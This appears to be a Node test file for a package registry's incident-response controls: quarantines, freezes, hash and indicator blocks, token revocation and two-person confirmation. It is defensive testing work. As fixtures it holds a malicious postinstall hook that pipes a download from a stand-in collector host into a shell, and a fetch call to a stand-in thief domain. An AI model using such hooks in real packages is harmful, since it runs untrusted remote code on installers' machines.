// SPDX-License-Identifier: Apache-2.0
/** What responders close when something goes wrong, and how it opens again. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parsePackageName, parseVersion } from '@holdfast/core'
import {
  contain,
  decideHold,
  freezeOwn,
  lapseMeasures,
  parseDraft,
  setPackageRole,
  takeMeasure,
  undoMeasure,
} from '../../src/flow/index.ts'
import { authorize, nobody, operator } from '../../src/identity/index.ts'
import { publishDocument } from '../live.ts'
import { get, post } from '../web/site.ts'
import { openWorld, type Someone, type World } from '../world.ts'

interface Told {
  readonly versions: Readonly<Record<string, { readonly dist: { readonly integrity: string } }>>
}

let world: World
let alice: Someone
let bob: Someone
let rae: Someone
let sam: Someone

before(async () => {
  world = await openWorld()
  alice = await world.someone('alice')
  bob = await world.someone('bob')
  rae = await world.someone('rae', ['responder'])
  sam = await world.someone('sam', ['responder'])
})
after(async () => {
  assert.deepEqual(world.errors, [])
  await world.check()
  await world.close()
})

const statusOf = async (name: string, version = '1.0.0') =>
  (await world.npm(`GET /${name}/-/${name}-${version}.tgz`)).status

const measure = (who: Someone, body: object, path = '') =>
  world.ask(`POST /api/v1/measures${path}`, { token: who.token, body: { reason: 'malware', ...body } })

const canPublish = async (who: Someone, name: string, version: string) => {
  try {
    await world.publish(who, name, version)
    return true
  } catch {
    return false
  }
}

test('a query closes what it names and nothing else, and opens it when its maker takes it back', async () => {
  await world.publish(alice, 'evil-a', '1.0.0')
  await world.publish(alice, 'evil-a', '1.0.1')
  await world.publish(bob, 'good-b', '1.0.0')
  const seen = await measure(rae, { kind: 'quarantine', publisher: 'alice' }, '/preview')
  assert.equal(seen.body.count, 2)
  assert.equal(await statusOf('evil-a'), 200, 'a preview closes nothing')
  const taken = await measure(rae, { kind: 'quarantine', publisher: 'alice', words: 'steals keys' })
  assert.equal(taken.body.count, 2)
  assert.deepEqual([await statusOf('evil-a'), await statusOf('evil-a', '1.0.1')], [403, 403])
  assert.equal(await statusOf('good-b'), 200)
  assert.equal((await measure(rae, { id: taken.body.id }, '/undo')).body.state, 'undone')
  assert.equal(await statusOf('evil-a'), 200)
  assert.equal((await measure(rae, { id: taken.body.id }, '/undo')).body.code, 'measure-ended')
})

test('what somebody confirmed opens only when two people say so', async () => {
  await world.publish(alice, 'twice', '1.0.0')
  const { body } = await measure(rae, { kind: 'quarantine', package: 'twice' })
  assert.equal((await measure(rae, { id: body.id }, '/confirm')).body.code, 'measure-needs-second')
  assert.equal((await measure(sam, { id: body.id }, '/confirm')).status, 200)
  assert.equal((await measure(rae, { id: body.id }, '/undo')).body.state, 'asked')
  assert.equal((await measure(rae, { id: body.id }, '/undo')).body.code, 'measure-needs-second')
  assert.equal(await statusOf('twice'), 403)
  assert.equal((await measure(sam, { id: body.id }, '/undo')).body.state, 'undone')
  assert.equal(await statusOf('twice'), 200)
})

test('undoing one of two measures opens nothing that the other closed', async () => {
  await world.publish(alice, 'both', '1.0.0')
  const first = await measure(rae, { kind: 'quarantine', package: 'both' })
  const second = await measure(sam, { kind: 'quarantine', package: 'both', version: '1.0.0' })
  await measure(rae, { id: first.body.id }, '/undo')
  assert.equal(await statusOf('both'), 403)
  await measure(sam, { id: second.body.id }, '/undo')
  assert.equal(await statusOf('both'), 200)
})

test('everything asks for a word', async () => {
  assert.equal((await measure(rae, { kind: 'quarantine' })).body.code, 'measure-unconfirmed')
  assert.equal((await measure(rae, { kind: 'freeze', subject: 'registry' })).body.code, 'measure-unconfirmed')
  assert.equal(
    (await measure(alice, { kind: 'freeze', subject: 'registry', confirm: 'registry' })).status,
    403,
  )
})

test('a predicate that happens to match everything asks for the word, and closes nothing without it', async () => {
  await world.publish(alice, 'crowd', '1.0.0')
  for (let patch = 1; patch <= 10; patch++) await world.publish(alice, 'crowd', `1.0.${patch}`)
  const wish = { kind: 'quarantine', since: '2000-01-01T00:00:00Z' }
  const seen = await measure(rae, wish, '/preview')
  assert.equal(seen.body.word, 'everything')
  const refused = await measure(rae, { ...wish, confirm: 'yes' })
  assert.deepEqual([refused.body.code, refused.body.count], ['measure-unconfirmed', seen.body.count])
  assert.equal(await statusOf('crowd'), 200)
})

test('what is misspelt, empty or said twice closes nothing', async () => {
  await world.publish(alice, 'careful', '1.0.0')
  const wrong = [
    { kind: 'quarantine', package: 'careful', sinse: '2026-01-01' },
    { kind: 'quarantine', package: '', since: '2000-01-01T00:00:00Z' },
    { kind: 'freeze', subject: 'package:careful', package: 'careful' },
    { kind: 'block', hash: `sha512-${'A'.repeat(86)}==`, indicator: 'collector.example' },
    { kind: 'quarantine', package: 'careful', incident: 'case-of-nobody' },
  ]
  for (const each of wrong)
    for (const path of ['', '/preview'])
      assert.equal((await measure(rae, each, path)).body.code, 'measure-invalid', JSON.stringify(each))
  for (const each of [{ account: 'alice', publisher: 'x' }, { acount: 'alice' }, { account: '' }])
    assert.equal((await measure(rae, each, '/revoke')).body.code, 'measure-invalid', JSON.stringify(each))
  assert.equal(await statusOf('careful'), 200)
  assert.ok(await canPublish(alice, 'careful', '1.0.1'))
})

test('what people closed by a measure opens by its end alone, and not by one person’s release', async () => {
  await world.publish(alice, 'sealed', '1.0.0')
  const { body } = await measure(rae, { kind: 'quarantine', package: 'sealed' })
  await measure(sam, { id: body.id }, '/confirm')
  const subject = { name: parsePackageName('sealed'), version: parseVersion('1.0.0') }
  const release = () => takeMeasure(world.ports, operator, 'release', subject, { code: 'other', words: '' })
  await assert.rejects(release(), { code: 'measure-needs-second' })
  assert.equal(await statusOf('sealed'), 403)
  await measure(rae, { id: body.id }, '/undo')
  await measure(sam, { id: body.id }, '/undo')
  assert.equal(await statusOf('sealed'), 200)
})

test('what has ended can be neither ended, confirmed nor asked for again', async () => {
  await world.publish(alice, 'ended', '1.0.0')
  const { body } = await measure(rae, { kind: 'quarantine', package: 'ended' })
  await measure(rae, { id: body.id }, '/undo')
  for (const act of ['/undo', '/confirm'])
    assert.equal((await measure(sam, { id: body.id }, act)).body.code, 'measure-ended', act)
  assert.equal(await statusOf('ended'), 200)
})

test('whoever took over one responder keeps nothing closed or open alone', async () => {
  await world.publish(alice, 'siege', '1.0.0')
  const registry = { kind: 'freeze', subject: 'registry', confirm: 'registry' }
  const taken = await measure(rae, registry)
  assert.equal((await measure(rae, { id: taken.body.id }, '/confirm')).body.code, 'measure-needs-second')
  assert.equal(await canPublish(alice, 'siege', '1.0.1'), false)
  assert.equal((await measure(sam, { id: taken.body.id }, '/undo')).body.state, 'asked')
  assert.equal(await undoMeasure(world.ports, operator, taken.body.id), 'undone')
  assert.ok(await canPublish(alice, 'siege', '1.0.1'))
  const kept = await measure(sam, { kind: 'freeze', subject: 'package:siege' })
  assert.equal((await measure(rae, { id: kept.body.id }, '/undo')).body.state, 'asked')
  assert.equal(await canPublish(alice, 'siege', '1.0.2'), false)
  assert.equal(await undoMeasure(world.ports, operator, kept.body.id), 'undone')
})

test('a frozen package, account, switch or registry takes no publish, others go on, and reading does', async () => {
  await world.publish(alice, 'ice', '1.0.0')
  await world.publish(bob, 'water', '1.0.0')
  const freezes = [
    { subject: 'package:ice', closed: ['ice'] },
    { subject: 'account:alice', closed: ['ice'] },
    { subject: 'publishing', closed: ['ice', 'water'] },
    { subject: 'registry', confirm: 'registry', closed: ['ice', 'water'] },
  ]
  let patch = 1
  for (const { closed, ...freeze } of freezes) {
    const { body } = await measure(rae, { kind: 'freeze', ...freeze })
    assert.equal(await canPublish(alice, 'ice', `1.0.${patch}`), !closed.includes('ice'), freeze.subject)
    assert.equal(await canPublish(bob, 'water', `1.0.${patch}`), !closed.includes('water'), freeze.subject)
    assert.equal(await statusOf('ice'), 200)
    assert.equal((await measure(rae, { id: body.id }, '/undo')).body.state, 'undone')
    patch += 1
  }
  assert.ok(await canPublish(alice, 'ice', '2.0.0'))
})

test('while sign-up is closed no account is made, also by an invitation, and a frozen scope takes no publish', async () => {
  await world.publish(alice, '@cold/ui', '1.0.0')
  const signUp = await measure(rae, { kind: 'freeze', subject: 'sign-up' })
  await assert.rejects(world.someone('late'), { code: 'frozen' })
  await measure(rae, { id: signUp.body.id }, '/undo')
  await world.someone('late')
  const scope = await measure(rae, { kind: 'freeze', subject: 'scope:@cold' })
  assert.equal(await canPublish(alice, '@cold/ui', '1.0.1'), false)
  assert.equal(await canPublish(alice, '@cold/new', '1.0.0'), false)
  await measure(rae, { id: scope.body.id }, '/undo')
  assert.ok(await canPublish(alice, '@cold/new', '1.0.0'))
})

test('bytes that were closed by their hash are not published', async () => {
  const { versions } = publishDocument('seed', '1.0.0') as unknown as Told
  const hash = versions['1.0.0']?.dist.integrity ?? ''
  const { body } = await measure(rae, { kind: 'freeze', subject: `hash:${hash}` })
  assert.equal(await canPublish(alice, 'seed', '1.0.0'), false)
  await measure(rae, { id: body.id }, '/undo')
  assert.ok(await canPublish(alice, 'seed', '1.0.0'))
})

test('what has a blocked text in it is not published, who tried is on record, and it is once the block ends', async () => {
  const files = { 'index.js': 'fetch("https://take.example/")' }
  const put = (version: string) =>
    world.npm('PUT /smuggler', { token: alice.token, body: publishDocument('smuggler', version, { files }) })
  const { body } = await measure(rae, { kind: 'block', indicator: 'TAKE.example', words: 'a thief' })
  assert.equal(body.subject, 'indicator:TAKE.example')
  const refused = await put('1.0.0')
  assert.deepEqual([refused.status, refused.body.code], [403, 'content-blocked'])
  assert.match(refused.text, /a thief/)
  assert.doesNotMatch(refused.text, /take\.example/i, 'whoever tries learns nothing')
  assert.equal(await statusOf('smuggler'), 404)
  const events = await world.ports.store.events.search({ type: 'measure' }, Number.MAX_SAFE_INTEGER, 5)
  const [last] = events
  assert.deepEqual(
    [last?.detail['op'], last?.detail['package'], last?.detail['measure'], last?.actorId],
    ['refuse', 'smuggler', body.id, alice.id],
  )
  assert.ok(await canPublish(alice, 'harmless', '1.0.0'))
  await measure(rae, { id: body.id }, '/undo')
  assert.equal((await put('1.0.0')).status, 201)
  for (const bad of [{ indicator: 'abc' }, { hash: 'sha512-nothing' }, {}])
    assert.equal((await measure(rae, { kind: 'block', ...bad })).status, 400)
})

test('bytes that are hosted already are closed by their hash, and open again with the block', async () => {
  const { versions } = publishDocument('kept', '1.0.0') as unknown as Told
  await world.publish(alice, 'kept', '1.0.0')
  assert.equal(await statusOf('kept'), 200)
  const hash = versions['1.0.0']?.dist.integrity ?? ''
  const seen = await measure(rae, { kind: 'freeze', subject: `hash:${hash}` }, '/preview')
  assert.deepEqual(seen.body.versions, [{ name: 'kept', version: '1.0.0' }])
  const { body } = await measure(rae, { kind: 'freeze', subject: `hash:${hash}` })
  assert.equal(await statusOf('kept'), 403)
  assert.equal((await world.npm('GET /kept')).body.versions['1.0.0'], undefined)
  await measure(rae, { id: body.id }, '/undo')
  assert.equal(await statusOf('kept'), 200)
})

test('what is held is quarantined too, waits again when that ends, and stays closed where it was confirmed', async () => {
  const stealer = { scripts: { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' } }
  for (const name of ['waiting', 'proven', 'cleared']) {
    const body = publishDocument(name, '1.0.0', { manifest: stealer })
    assert.equal((await world.npm(`PUT /${name}`, { token: alice.token, body })).status, 201)
  }
  const found = async (name: string) =>
    (await world.ports.store.catalog.findVersion(parsePackageName(name), parseVersion('1.0.0'))) ?? {}
  const before = await found('waiting')
  const { body } = await measure(rae, { kind: 'quarantine', indicator: 'cdn.COLLECTOR.example' })
  assert.equal(body.count, 3)
  for (const name of ['waiting', 'proven', 'cleared']) {
    const { status } = (await found(name)) as { status?: string }
    assert.equal(status, 'quarantined', name)
  }
  const subject = (name: string) => ({ name: parsePackageName(name), version: parseVersion('1.0.0') })
  await decideHold(world.ports, operator, 'confirm', subject('proven'), 'steals')
  await decideHold(world.ports, operator, 'release', subject('cleared'), 'harmless')
  await measure(rae, { id: body.id }, '/undo')
  assert.deepEqual(await found('waiting'), before)
  assert.deepEqual(
    [await statusOf('waiting'), await statusOf('proven'), await statusOf('cleared')],
    [403, 403, 200],
  )
  assert.equal(((await found('proven')) as { status?: string }).status, 'quarantined')
})

test('a maintainer freezes a package against everybody, and opens it again', async () => {
  await world.publish(alice, 'mine', '1.0.0')
  const own = await world.ask('POST /api/v1/measures/own', {
    token: alice.token,
    body: { package: 'mine', words: 'my laptop is gone' },
  })
  assert.equal(own.status, 201)
  assert.equal(await canPublish(alice, 'mine', '1.0.1'), false)
  assert.equal((await measure(bob, { id: own.body.id }, '/undo')).status, 403)
  assert.equal((await measure(alice, { id: own.body.id }, '/undo')).body.state, 'undone')
  assert.ok(await canPublish(alice, 'mine', '1.0.1'))
})

test('a maintainer freezes a package by its page, also against its owner, and nobody else sees the page', async () => {
  await world.publish(alice, 'shared', '1.0.0')
  await setPackageRole(world.ports, operator, parsePackageName('shared'), 'bob', 'maintainer')
  const visit = await world.browse(bob)
  const [path, page] = ['/freeze/npm/shared', '/package/npm/shared']
  assert.match((await get(world, page, visit)).text, /href="\/freeze\/npm\/shared">Freeze it/)
  assert.equal((await post(world, path, { act: 'freeze', words: '<b>her</b> laptop' }, visit)).status, 303)
  assert.equal(await canPublish(alice, 'shared', '1.0.1'), false)
  const owner = await world.browse(alice)
  assert.match((await get(world, page, owner)).text, /Nobody publishes here now/)
  const seen = (await get(world, path, owner)).text
  assert.match(seen, /bob froze package:shared[\s\S]*&lt;b&gt;her&lt;\/b&gt; laptop/)
  assert.doesNotMatch(seen, /Open it again|&lt;time/)
  const id = /name="id" value="(measure-\w+)"/.exec((await get(world, path, visit)).text)?.[1] ?? ''
  assert.equal((await post(world, path, { act: 'open', id }, owner)).status, 403)
  const stranger = await world.browse(await world.someone('sue'))
  assert.notEqual((await get(world, path, stranger)).status, 200)
  assert.doesNotMatch((await get(world, page, stranger)).text, /Freeze it|Nobody publishes here now/)
  assert.equal((await post(world, path, { act: 'open', id }, visit)).status, 303)
  assert.ok(await canPublish(alice, 'shared', '1.0.1'))
})

test('what nobody confirms lapses after four hours, what somebody confirmed stays', async () => {
  await world.publish(alice, 'brief', '1.0.0')
  await world.publish(alice, 'long', '1.0.0')
  await measure(rae, { kind: 'quarantine', package: 'brief' })
  await measure(rae, { kind: 'freeze', subject: 'package:brief' })
  const { body } = await measure(rae, { kind: 'quarantine', package: 'long' })
  await measure(sam, { id: body.id }, '/confirm')
  const before = world.ports.clock()
  const later = { ...world.ports, clock: () => before + 4 * 60 * 60_000 + 1 }
  await lapseMeasures(world.ports)
  assert.equal(await statusOf('brief'), 403)
  await lapseMeasures(later)
  assert.equal(await statusOf('brief'), 200)
  assert.equal(await statusOf('long'), 403)
  assert.ok(await canPublish(alice, 'brief', '1.0.1'))
})

test('what a process that was stopped began to close is finished, but not once its end was begun', async () => {
  await world.publish(alice, 'half', '1.0.0')
  const later = { ...world.ports, clock: () => world.now() + 2 * 60_000 }
  const { body } = await measure(rae, { kind: 'quarantine', package: 'half' })
  const { store } = world.ports
  const grant = await authorize(world.ports, { kind: 'system', id: 'measures' }, 'measure:lapse', '')
  const found = await store.measures.find(body.id)
  assert.ok(found !== undefined)
  await measure(rae, { id: body.id }, '/undo')
  const stopped = { ...found, finishedAt: null }
  await store.commit(grant, [], tx => tx.measures.add({ ...stopped, id: 'measure-stopped' }))
  await store.commit(grant, [], async tx => {
    await tx.measures.add({ ...stopped, id: 'measure-ending' })
    await tx.measures.finish('measure-ending', world.now())
  })
  assert.equal(await statusOf('half'), 200)
  await lapseMeasures(later)
  assert.equal(await statusOf('half'), 403)
  const closed = await store.measures.countVersions(['measure-stopped', 'measure-ending'])
  assert.deepEqual([...closed], [['measure-stopped', 1]])
  for (const id of ['measure-stopped', 'measure-ending']) await measure(rae, { id }, '/undo')
  assert.equal(await statusOf('half'), 200)
})

test('the owner of the machine is the second person', async () => {
  await world.publish(alice, 'host', '1.0.0')
  const draft = parseDraft({ kind: 'freeze', subject: 'package:host', reason: 'security' })
  const { id } = await contain(world.ports, operator, draft)
  assert.equal((await measure(rae, { id }, '/confirm')).status, 200)
  assert.equal(await undoMeasure(world.ports, operator, id), 'asked')
  assert.equal((await measure(rae, { id }, '/undo')).body.state, 'undone')
  await assert.rejects(freezeOwn(world.ports, nobody, parsePackageName('host'), ''))
})

test('revoking ends tokens and sessions of whoever may publish a package, and of nobody else', async () => {
  const eve = await world.someone('eve')
  const visit = await world.browse(eve)
  await world.publish(eve, 'lost', '1.0.0')
  const query = { package: 'lost', reason: 'leaked' }
  const seen = await measure(rae, { ...query, preview: 'yes' }, '/revoke')
  assert.deepEqual([seen.body.holders, seen.body.state], [['eve'], 'preview'])
  assert.ok(seen.body.tokens > 0 && seen.body.sessions > 0)
  assert.equal((await world.npm('GET /-/whoami', { token: eve.token })).status, 200)
  assert.equal((await measure(rae, query, '/revoke')).body.state, 'revoked')
  assert.equal((await world.npm('GET /-/whoami', { token: eve.token })).status, 401)
  assert.notEqual((await get(world, '/account', visit)).status, 200)
  assert.equal((await world.npm('GET /-/whoami', { token: bob.token })).status, 200)
  assert.equal((await measure(bob, query, '/revoke')).status, 403)
})

test('a yanked version is yanked again when its quarantine ends', async () => {
  await world.publish(alice, 'old', '1.0.0')
  await world.publish(alice, 'old', '1.0.1')
  const subject = { name: parsePackageName('old'), version: parseVersion('1.0.0') }
  await takeMeasure(world.ports, operator, 'yank', subject, { code: 'broken', words: '' })
  const { body } = await measure(rae, { kind: 'quarantine', package: 'old' })
  await measure(rae, { id: body.id }, '/undo')
  const found = await world.ports.store.catalog.findVersion(subject.name, subject.version)
  assert.deepEqual([found?.status, found?.reason], ['yanked', 'broken'])
  assert.equal(await statusOf('old', '1.0.1'), 200)
})

test('one token alone is revoked, and what was made in a time, but nothing else', async () => {
  const una = await world.someone('una')
  const [token] = await world.ports.store.identity.listTokens(una.id)
  const id = token?.id ?? ''
  const before = new Date(world.now() - 3600_000).toISOString()
  const works = async () => (await world.npm('GET /-/whoami', { token: una.token })).status === 200
  const none = await measure(rae, { account: 'una', until: before, reason: 'leaked' }, '/revoke')
  assert.deepEqual([none.body.tokens, await works()], [0, true])
  assert.equal((await measure(rae, { token: 't_0000000000000000' }, '/revoke')).body.code, 'measure-invalid')
  const done = await measure(rae, { token: id, reason: 'leaked' }, '/revoke')
  assert.deepEqual([done.body.tokens, done.body.sessions, await works()], [1, 0, false])
  assert.equal((await world.npm('GET /-/whoami', { token: bob.token })).status, 200)
})

test('the page revokes what it showed first, and nobody who does not respond', async () => {
  const mia = await world.someone('mia')
  const visit = await world.browse(rae)
  const form = { kind: 'revoke', account: 'mia', reason: 'leaked' }
  const seen = await post(world, '/operate/measures', { ...form, act: 'preview' }, visit)
  assert.match(seen.text, /This ends 1 token, 0 sessions for good/)
  assert.equal((await world.npm('GET /-/whoami', { token: mia.token })).status, 200)
  const other = await world.browse(bob)
  assert.equal((await post(world, '/operate/measures', { ...form, act: 'take' }, other)).status, 404)
  await post(world, '/operate/measures', { ...form, act: 'take' }, visit)
  assert.equal((await world.npm('GET /-/whoami', { token: mia.token })).status, 401)
})

test('the page says how far a measure is while it closes, looks again by itself, and rests when it is done', async () => {
  const visit = await world.browse(rae)
  const { store } = world.ports
  const grant = await authorize(world.ports, { kind: 'system', id: 'measures' }, 'measure:lapse', '')
  const { body } = await measure(rae, { kind: 'freeze', subject: 'scope:@slow' })
  const found = await store.measures.find(body.id)
  assert.ok(found !== undefined)
  const slow = { ...found, id: 'measure-slow', kind: 'quarantine', subject: '{"token":"t"}' } as const
  await store.commit(grant, [], async tx => {
    await tx.measures.add({ ...slow, wanted: 10_000, finishedAt: null })
    const name = parsePackageName('slow')
    const version = parseVersion('1.0.0')
    await tx.measures.addVersions(slow.id, [{ name, version, was: 'removed', why: '' }])
  })
  const during = await get(world, '/operate/measures', visit)
  assert.match(during.text, /1 of 10000 closed/)
  assert.equal(during.headers.get('refresh'), '2')
  await store.commit(grant, [], tx => tx.measures.finish(slow.id, world.now()))
  const after = await get(world, '/operate/measures', visit)
  assert.doesNotMatch(after.text, /of 10000 closed/)
  assert.equal(after.headers.get('refresh'), null)
  for (const id of [slow.id, body.id]) await measure(rae, { id }, '/undo')
})

test('the page shows what a query closes before it does, closes it, and opens it again', async () => {
  await world.publish(alice, 'paged', '1.0.0')
  const visit = await world.browse(rae)
  const form = { kind: 'quarantine', package: 'paged', reason: 'malware', words: '<b>steals</b>' }
  const seen = await post(world, '/operate/measures', { ...form, act: 'preview' }, visit)
  assert.match(seen.text, /This closes 1 version/)
  assert.match(seen.text, /paged@1\.0\.0/)
  assert.equal(await statusOf('paged'), 200)
  await post(world, '/operate/measures', { ...form, act: 'take' }, visit)
  assert.equal(await statusOf('paged'), 403)
  const listed = await get(world, '/operate/measures', visit)
  assert.match(listed.text, /&lt;b&gt;steals/)
  const id = /package paged<.*?value="(measure-[0-9a-f]+)"/s.exec(listed.text)?.[1] ?? ''
  await post(world, '/operate/measures', { act: 'undo', id }, visit)
  assert.equal(await statusOf('paged'), 200)
  const word = await post(
    world,
    '/operate/measures',
    { kind: 'freeze', subject: 'registry', reason: 'security', act: 'preview' },
    visit,
  )
  assert.match(word.text, /Type registry/)
})

test('everybody’s tokens and sessions end, once the word is typed', async () => {
  const visit = await world.browse(bob)
  const { store } = world.ports
  const [token] = await store.identity.listTokens(bob.id)
  assert.ok(token !== undefined)
  const grant = await authorize(world.ports, operator, 'version:contain', '')
  await store.commit(grant, [], async tx => {
    for (let n = 0; n < 600; n++)
      await tx.identity.addToken(`hash ${n}`, { ...token, id: `t_${String(n).padStart(16, '0')}` })
  })
  const wish = { reason: 'leaked' }
  const seen = await measure(rae, { ...wish, preview: 'yes' }, '/revoke')
  assert.equal(seen.body.word, 'everything')
  assert.ok(seen.body.tokens > 600)
  assert.equal((await measure(rae, wish, '/revoke')).body.code, 'measure-unconfirmed')
  assert.equal((await world.npm('GET /-/whoami', { token: bob.token })).status, 200)
  const done = await measure(rae, { ...wish, confirm: 'everything' }, '/revoke')
  assert.equal(done.body.tokens, seen.body.tokens)
  for (const { token } of [alice, bob, rae])
    assert.equal((await world.npm('GET /-/whoami', { token })).status, 401)
  assert.notEqual((await get(world, '/account', visit)).status, 200)
})
